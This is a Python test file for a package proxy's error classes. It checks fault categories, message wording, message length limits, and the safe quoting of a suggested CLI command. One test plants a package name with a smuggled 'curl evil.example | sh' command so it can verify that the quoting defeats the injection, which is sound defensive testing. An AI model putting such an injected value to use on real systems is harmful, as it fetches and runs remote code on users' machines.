"""Every failure is a sentence for a person, keeps its facts, and says whose fault it is."""

import inspect
import re
import shlex

import pytest

from apprproxy.core import errors
from apprproxy.core.digest import Digest
from apprproxy.core.errors import (
    ClientFault,
    DigestMismatch,
    Exhausted,
    Failure,
    Forbidden,
    Lied,
    Malformed,
    Move,
    Moved,
    NotOffered,
    NotThere,
    OurFault,
    Outage,
    Throttled,
    TooSlow,
    Unauthorized,
    UpstreamFault,
)

FIRST, NOW = Digest.of(b"first"), Digest.of(b"now")
KINDS = [one for _, one in inspect.getmembers(errors, inspect.isclass) if issubclass(one, Failure)]


def test_every_failure_is_exactly_ones_fault() -> None:
    sides = (ClientFault, UpstreamFault, OurFault)
    by_side = {one: [side for side in sides if issubclass(one, side)] for one in KINDS if one is not Failure}

    assert {1} == {len(found) for found in by_side.values()}


def test_the_tree_at_the_top_of_the_module_names_every_failure_in_its_place() -> None:
    drawn = re.findall(r"^([│ ]*)[├└]── (\w+)", errors.__doc__ or "", re.MULTILINE)
    path = ["Failure"]
    parents = {}
    for indent, name in drawn:
        path = path[: len(indent) // 4 + 1]
        parents[name] = path[-1]
        path.append(name)

    assert {one.__name__: one.__bases__[0].__name__ for one in KINDS if one is not Failure} == parents


UPSTREAM_FAULTS: list[UpstreamFault] = [
    NotThere("up", "says there is none", 404, "package-not-found"),
    NotOffered("up", "has no search"),
    Outage("up", "answered 500", 500),
    TooSlow("up", "no answer within 10 s"),
    Throttled("up", "answered 429", 429, 7.0),
    Unauthorized("up", "refused our credential (401)", 401, presented=True),
    Lied("up", "sent 3 bytes where 4 are due"),
    DigestMismatch("up", FIRST, NOW),
    Forbidden("up", "redirects to what is not a URL"),
]


@pytest.mark.parametrize("failure", UPSTREAM_FAULTS, ids=lambda failure: type(failure).__name__)
def test_a_sources_failure_begins_with_the_source(failure: UpstreamFault) -> None:
    assert f"up: {failure.sentence}" == str(failure)
    assert "up" == failure.source


def test_a_mismatch_says_what_was_asked_for_and_what_came() -> None:
    failure = DigestMismatch("up", FIRST, NOW)

    assert f"up: sent bytes with digest {NOW} where {FIRST} was asked for" == str(failure)
    assert (FIRST, NOW) == (failure.expected, failure.got)
    assert isinstance(failure, Lied)


def test_a_lie_is_no_outage_and_an_outage_is_no_no() -> None:
    assert not issubclass(Lied, Outage)
    assert not issubclass(Outage, NotThere)
    assert all(issubclass(one, Outage) for one in (TooSlow, Throttled, Unauthorized))


def test_when_all_failed_each_ones_reason_is_kept_in_order() -> None:
    failure = Exhausted([Outage("one", "answered 500", 500), NotThere("two", "says no")])

    assert "one: answered 500; two: says no" == str(failure)
    assert ["one", "two"] == [each.source for each in failure.failures]


def test_nobody_to_ask_is_a_sentence_too() -> None:
    assert "nobody to ask" == str(Exhausted([]))


def test_a_move_names_the_release_both_digests_and_the_command() -> None:
    move = Move("up/alice/nginx@1.0.0/helm", FIRST, NOW)
    sentence = str(Moved(move))

    assert str(FIRST) in sentence
    assert str(NOW) in sentence
    assert sentence.endswith(f"apprproxy names accept up/alice/nginx@1.0.0/helm {NOW}")


def test_a_command_that_people_are_told_to_copy_is_one_command_whatever_the_name() -> None:
    name = "up/a/b@1.0.0/x';curl${IFS}evil.example|sh;'"
    sentence = str(Moved(Move(name, FIRST, NOW)))

    assert ["apprproxy", "names", "accept", name, str(NOW)] == shlex.split(
        sentence.rpartition("To take the new ones: ")[2]
    )


def test_a_malformed_name_has_the_code_that_fits_best() -> None:
    assert ("NAME_INVALID", "DIGEST_INVALID") == (Malformed("x").code, Malformed("x", "DIGEST_INVALID").code)


def test_a_sentence_is_of_a_bounded_length_whatever_an_upstream_has_put_into_it() -> None:
    failure = Forbidden("up", f"a redirect to {'x' * 8000} carries a user name")

    assert str(failure).startswith("up: a redirect to xxx")
    assert len(str(failure)) < 600
